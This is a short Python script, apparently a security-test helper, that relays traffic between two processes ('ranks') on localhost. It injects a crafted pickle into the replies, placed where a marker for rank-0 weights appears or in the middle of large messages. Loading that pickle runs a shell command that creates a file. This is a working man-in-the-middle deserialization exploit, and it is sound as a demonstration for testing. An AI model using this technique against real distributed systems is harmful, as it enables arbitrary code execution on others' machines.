"""A relay between two ranks, as a program: ``python relay.py TARGET PATH``, with ports of this host.

It holds no key. It changes what it passes on to who has connected: where it finds the pickle of :data:`MARK`, else in
the middle of what is large, it puts a pickle whose loading makes a file PATH. It prints its port.
"""

import contextlib
import select
import socket
import sys
import threading

MARK = b"weights of rank 0"
LARGE = 16 * 1024
#: More than this time between two pieces, and the first is passed on alone.
_PAUSE_S = 0.2


def changed(piece: bytes, evil: bytes) -> bytes:
    """Return what to pass on instead of what came."""
    at = piece.find(MARK)
    if at < 0 and len(piece) < LARGE:
        return piece
    start = piece.rfind(b"\x80", 0, at) if at >= 0 else len(piece) // 2
    return piece[:start] + evil + piece[start + len(evil) :]


def pass_on(source: socket.socket, target: socket.socket, evil: bytes) -> None:
    """Relay one direction, in pieces that came without a pause."""
    piece = b""
    with contextlib.suppress(OSError):
        while True:
            if piece and not select.select([source], [], [], _PAUSE_S)[0]:
                target.sendall(changed(piece, evil) if evil else piece)
                piece = b""
            got = source.recv(1 << 20)
            if not got:
                break
            piece += got
            if not evil:
                target.sendall(piece)
                piece = b""
    for sock in (source, target):
        with contextlib.suppress(OSError):
            sock.shutdown(socket.SHUT_RDWR)


def main(target: int, path: str) -> None:
    """Relay connections until killed."""
    evil = f"cposix\nsystem\n(S'touch {path}'\ntR.".encode()
    with socket.create_server(("127.0.0.1", 0)) as server:
        print(server.getsockname()[1], flush=True)
        while True:
            near, _ = server.accept()
            far = socket.create_connection(("127.0.0.1", target))
            threading.Thread(target=pass_on, args=(near, far, b""), daemon=True).start()
            threading.Thread(target=pass_on, args=(far, near, evil), daemon=True).start()


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2])
